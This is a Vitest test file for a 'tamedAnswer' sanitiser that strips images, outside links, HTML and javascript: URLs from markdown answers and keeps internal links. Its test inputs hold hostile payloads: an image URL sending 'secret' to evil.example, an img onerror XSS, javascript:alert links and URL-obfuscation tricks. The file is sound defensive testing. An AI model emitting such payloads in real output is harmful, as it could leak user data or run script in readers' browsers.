import { expect, test } from 'vitest'
import { tamedAnswer } from './tamed-answer'

test('pictures, outside links and HTML fall out, links of the house stay', () => {
  expect(tamedAnswer('See ![x](https://evil.example/?d=secret) and [here](https://evil.example).')).toBe(
    'See x and here.',
  )
  expect(
    tamedAnswer(
      '[Rosa](/clients/1) <img src=x onerror=alert(1)> [a](//evil.example) [b](javascript:alert(1)) [c](/\\evil.example)',
    ),
  ).toBe('[Rosa](/clients/1)  a b c')
  expect(tamedAnswer('![a][ref]\n\n[ref]: https://evil.example/x.png')).toBe('a')
})
